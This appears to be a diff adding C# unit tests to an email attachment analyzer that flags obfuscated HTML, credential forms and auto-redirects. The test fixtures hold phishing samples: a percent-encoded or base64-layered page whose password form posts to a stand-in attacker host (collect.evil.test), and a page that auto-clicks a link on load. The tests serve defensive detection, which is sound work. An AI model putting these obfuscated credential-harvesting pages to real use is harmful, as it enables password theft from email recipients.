@@ -427,12 +427,68 @@ public class AttachmentAnalyzerTests
     }
 
     [Fact]
+    public void Analyze_WhenHtmlAttachmentWritesAnEscapedForm_EmitsObfuscatedAndReadsTheForm()
+    {
+        var page = """<html><body><form method="post" action="https://collect.evil.test/pay.php"><input type="email" name="e"><input type="password" name="p"><button>Confirm</button></form></body></html>""";
+        var escaped = string.Concat(Encoding.UTF8.GetBytes(page).Select(b => $"%{b:X2}"));
+        var html = $"<script>\n<!--\ndocument.write(unescape(\"{escaped}\"));\n//-->\n</script>";
+
+        var result = Analyze("Confirmation.html", Encoding.ASCII.GetBytes(html), "text/html");
+
+        Assert.Contains(AttachmentSignals.HtmlObfuscated, result.Signals());
+        Assert.Contains(AttachmentSignals.HtmlCredentialForm, result.Signals());
+        Assert.Contains(result.Urls, u => u.Url == "https://collect.evil.test/pay.php");
+    }
+
+    [Fact]
+    public void Analyze_WhenTheMarkupIsBase64InsideEscapes_ReadsBothLayers()
+    {
+        var inner = Convert.ToBase64String(Encoding.UTF8.GetBytes("""<div><a href="https://drop.evil.test/get">Download</a><input type="password"></div>"""));
+        var outer = string.Concat(Encoding.UTF8.GetBytes($"<script>document.body.innerHTML = atob('{inner}');</script><div>loading</div>").Select(b => $"%{b:X2}"));
+        var html = $"<html><script>document.write(decodeURIComponent('{outer}'))</script></html>";
+
+        var result = Analyze("Statement.htm", Encoding.ASCII.GetBytes(html), "text/html");
+
+        Assert.Contains(AttachmentSignals.HtmlObfuscated, result.Signals());
+        Assert.Contains(AttachmentSignals.HtmlCredentialForm, result.Signals());
+        Assert.Contains(result.Urls, u => u.Url == "https://drop.evil.test/get");
+    }
+
+    [Fact]
+    public void Analyze_WhenAPageClicksItsOwnLinkOnLoad_EmitsRedirect()
+    {
+        var html = """<html><body onload="document.getElementById('1').click();"><a id="1" href="https://free-coins.evil.test/index.html">Open Site</a></body></html>""";
+
+        var result = Analyze("GET Coins.html", Encoding.ASCII.GetBytes(html), "text/html");
+
+        Assert.Contains(AttachmentSignals.HtmlRedirect, result.Signals());
+        Assert.DoesNotContain(AttachmentSignals.HtmlObfuscated, result.Signals());
+    }
+
+    [Fact]
+    public void Analyze_WhenAPageHasThousandsOfUnclosedDecodeCalls_StaysBounded()
+    {
+        var html = new StringBuilder("<script>");
+        for (var i = 0; i < 20_000; i++)
+        {
+            html.Append("unescape(\"%3Cform ");
+        }
+
+        var result = Analyze("many.html", Encoding.ASCII.GetBytes(html.ToString()), "text/html");
+
+        Assert.Contains(AttachmentSignals.Html, result.Signals());
+        Assert.True(ScriptedMarkup.Find(html.ToString()).Count <= ScriptedMarkup.MaxLiterals);
+    }
+
+    [Fact]
     public void Analyze_WhenHtmlAttachmentIsBenign_NoSmugglingOrForm()
     {
         var result = Analyze("receipt.html", Encoding.ASCII.GetBytes("<html><body><p>Thanks</p><a href=\"https://shop.test/\">shop</a></body></html>"), "text/html");
 
         Assert.DoesNotContain(AttachmentSignals.HtmlSmuggling, result.Signals());
         Assert.DoesNotContain(AttachmentSignals.HtmlCredentialForm, result.Signals());
+        Assert.DoesNotContain(AttachmentSignals.HtmlObfuscated, result.Signals());
+        Assert.DoesNotContain(AttachmentSignals.HtmlRedirect, result.Signals());
     }
 
     [Fact]
